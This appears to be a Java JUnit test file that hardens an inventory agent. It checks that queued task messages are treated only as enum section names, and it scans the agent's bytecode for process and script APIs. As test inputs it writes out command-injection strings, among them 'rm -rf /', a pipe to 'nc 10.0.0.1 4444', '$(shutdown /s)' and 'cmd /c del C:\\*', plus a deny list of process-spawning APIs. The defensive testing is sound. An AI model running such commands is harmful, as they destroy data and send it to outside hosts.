package io.inventory.hardening;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import io.inventory.agent.poll.TaskPoller;
import io.inventory.commands.CommandsParser;
import io.inventory.commands.Section;
import java.io.IOException;
import java.io.InputStream;
import java.net.URISyntaxException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;

/**
 * The agent never executes anything a task says. The argument has two halves, and each has a test: a task reaches
 * the collectors only as a set of {@link Section} enum constants (anything else is refused before collection and
 * dead-lettered), and no class of the agent or of the shared code can start a process or evaluate a script at all.
 */
class AgentRunsNothingTest {

    /** Class and member names whose presence in a constant pool means code could start a process or a script. */
    private static final List<String> FORBIDDEN = List.of("java/lang/ProcessBuilder", "java/lang/Runtime.exec",
            "javax/script/ScriptEngine", "jdk/jshell", "CreateProcess", "ShellExecute", "WinExec");

    @Test
    @Timeout(300)
    void aTaskWithExtraFieldsOrShellLookingSectionsNeverReachesACollectorAsAnythingButSections() throws Exception {
        try (PipelineRig rig = new PipelineRig(1, 2, Duration.ofSeconds(2), Duration.ofSeconds(2))) {
            String extraFields = "{\"task_id\":\"ok-L1\",\"run_id\":\"ok\",\"line\":1,\"sections\":[\"os\"],"
                    + "\"command\":\"calc.exe\",\"exec\":[\"cmd\",\"/c\",\"del\",\"C:\\\\*\"],\"shell\":true}";
            List<String> hostile = List.of(
                    "{\"task_id\":\"bad-L1\",\"run_id\":\"bad\",\"sections\":[\"os; rm -rf /\"]}",
                    "{\"task_id\":\"bad-L2\",\"run_id\":\"bad\",\"sections\":[\"$(shutdown /s)\"]}",
                    "{\"task_id\":\"bad-L3\",\"run_id\":\"bad\",\"sections\":[\"`id`\",\"os\"]}",
                    "{\"task_id\":\"bad-L4\",\"run_id\":\"bad\",\"sections\":[\"programs | nc 10.0.0.1 4444\"]}",
                    "{\"task_id\":\"bad-L5;calc\",\"run_id\":\"bad\",\"sections\":[\"os\"]}");
            rig.sqs().sendMessage(b -> b.queueUrl(rig.taskQueue().url()).messageBody(extraFields));
            hostile.forEach(body -> rig.sqs().sendMessage(b -> b.queueUrl(rig.taskQueue().url()).messageBody(body)));
            long childrenBefore = ProcessHandle.current().descendants().count();

            rig.startAgents(1).startWriter(1);

            await().atMost(Duration.ofMinutes(3)).until(() -> rig.storedTaskIds().contains("ok-L1") && rig.drained());
            assertThat(rig.sectionsAsked()).isEqualTo(Map.of("ok-L1", Set.of(Section.OS)));
            assertThat(rig.drainDeadLetters(rig.taskQueue().deadLetterUrl()))
                    .containsExactlyInAnyOrderElementsOf(hostile);
            assertThat(ProcessHandle.current().descendants().count()).isEqualTo(childrenBefore);
        }
    }

    @Test
    void noAgentOrSharedClassCanStartAProcessOrEvaluateAScript() throws Exception {
        List<String> offenders = new ArrayList<>();
        int scanned = 0;
        for (Path location : List.of(codeOf(TaskPoller.class), codeOf(CommandsParser.class))) {
            for (ClassFile classFile : classFiles(location)) {
                scanned++;
                String constants = new String(classFile.bytes(), StandardCharsets.ISO_8859_1);
                for (String forbidden : FORBIDDEN) {
                    if (refersTo(constants, forbidden)) {
                        offenders.add(classFile.name() + " -> " + forbidden);
                    }
                }
            }
        }

        assertThat(scanned).as("classes scanned").isGreaterThan(50);
        assertThat(offenders).isEmpty();
    }

    /**
     * {@code Owner.member} needs both the owner and the member's exact name in the pool (a UTF-8 constant is stored
     * as tag 1 and a two-byte length, so {@code exec} does not match {@code executor}); a bare name needs itself.
     */
    private static boolean refersTo(String constants, String forbidden) {
        int dot = forbidden.indexOf('.');
        if (dot < 0) {
            return constants.contains(forbidden);
        }
        String member = forbidden.substring(dot + 1);
        String exactMember = "\u0001\u0000" + (char) member.length() + member;
        return constants.contains(forbidden.substring(0, dot)) && constants.contains(exactMember);
    }

    private static Path codeOf(Class<?> type) throws URISyntaxException {
        return Path.of(type.getProtectionDomain().getCodeSource().getLocation().toURI());
    }

    private static List<ClassFile> classFiles(Path location) throws IOException {
        List<ClassFile> classes = new ArrayList<>();
        if (Files.isDirectory(location)) {
            try (Stream<Path> files = Files.walk(location)) {
                for (Path file : files.filter(f -> f.toString().endsWith(".class")).toList()) {
                    classes.add(new ClassFile(location.relativize(file).toString(), Files.readAllBytes(file)));
                }
            }
            return classes;
        }
        try (ZipFile jar = new ZipFile(location.toFile())) {
            for (ZipEntry entry : jar.stream().filter(e -> e.getName().endsWith(".class")).toList()) {
                try (InputStream in = jar.getInputStream(entry)) {
                    classes.add(new ClassFile(entry.getName(), in.readAllBytes()));
                }
            }
        }
        return classes;
    }

    private record ClassFile(String name, byte[] bytes) {
    }
}
